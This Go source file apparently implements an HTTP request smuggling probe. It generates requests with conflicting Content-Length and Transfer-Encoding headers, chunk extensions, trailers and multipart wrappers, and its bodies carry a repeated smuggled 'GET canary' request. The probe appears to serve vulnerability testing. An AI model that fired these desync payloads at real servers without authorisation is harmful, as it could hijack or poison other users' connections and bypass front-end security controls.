// Package smuggling makes HTTP/1.1 requests whose bodies are requests
// themselves: a server that loses its place in a body executes them.
package smuggling

import (
	"fmt"
	"io"
	"strings"
)

// Framing is a way to say where a body ends.
type Framing struct {
	Name string

	headers func(size int) string
	body    func(body string) string
}

// Framings returns all framings that a server may meet.
func Framings() []Framing {
	const chunked = "Transfer-Encoding: chunked\r\n"
	length := func(n int) string { return fmt.Sprintf("Content-Length: %d\r\n", n) }
	always := func(headers string) func(int) string { return func(int) string { return headers } }
	plain := func(body string) string { return body }
	const expect = "Expect: 100-continue\r\n"
	return []Framing{
		{Name: "length", headers: length, body: plain},
		{Name: "chunk", headers: always(chunked), body: chunks(1<<20, "", "")},
		{Name: "chunks", headers: always(chunked), body: chunks(700, "", "")},
		{Name: "extensions", headers: always(chunked), body: chunks(5000, ";a=b", "")},
		{Name: "trailers", headers: always(chunked + "Trailer: X-Sum\r\n"), body: chunks(3000, "", "X-Sum: 1\r\n")},
		{Name: "both", headers: func(n int) string { return length(n/2) + chunked }, body: chunks(4000, "", "")},
		{Name: noChunks, headers: func(n int) string { return length(n) + chunked },
			body: func(body string) string { return "0\r\n\r\n" + body }},
		{Name: "expect, length", headers: func(n int) string { return length(n) + expect }, body: plain},
		{Name: "expect, chunks", headers: always(chunked + expect), body: chunks(6000, "", "")},
		{Name: "form", headers: func(n int) string { return length(n+len(wholeForm)) + formType }, body: func(body string) string { return wholeForm + body }},
		{Name: "form, chunks", headers: always(chunked + formType), body: func(body string) string { return chunks(9000, "", "")(wholeForm + body) }},
	}
}

const noChunks = "both, no chunks"

// Trails reports whether bytes follow the body if the server goes by the chunks. A server
// that closes the connection then may destroy its own answer.
func (f Framing) Trails() bool { return f.Name == noChunks }

// A form that is complete, with whatever comes behind it in its body.
const (
	formType  = "Content-Type: multipart/form-data; boundary=X\r\n"
	wholeForm = "--X\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--X--\r\n"
)

func chunks(size int, extension, trailers string) func(string) string {
	return func(body string) string {
		var out strings.Builder
		for len(body) > 0 {
			n := min(size, len(body))
			_, _ = fmt.Fprintf(&out, "%x%s\r\n%s\r\n", n, extension, body[:n])
			body = body[n:]
		}
		return out.String() + "0\r\n" + trailers + "\r\n"
	}
}

// Body returns a body that executes GET canary from wherever in it a server begins to
// read the next request: empty lines before a request are skipped.
func Body(canary string) string {
	one := strings.Repeat("\n", 1000) + "GET " + canary + " HTTP/1.1\r\nHost: smuggled\r\n\r\n"
	return strings.Repeat(one, 24)
}

// Write sends a request. The headers are whole lines.
func (f Framing) Write(w io.Writer, method, target, headers, body string) error {
	head := method + " " + target + " HTTP/1.1\r\nHost: host\r\n" + headers + f.headers(len(body)) + "\r\n"
	_, err := io.WriteString(w, head+f.body(body))
	return err
}
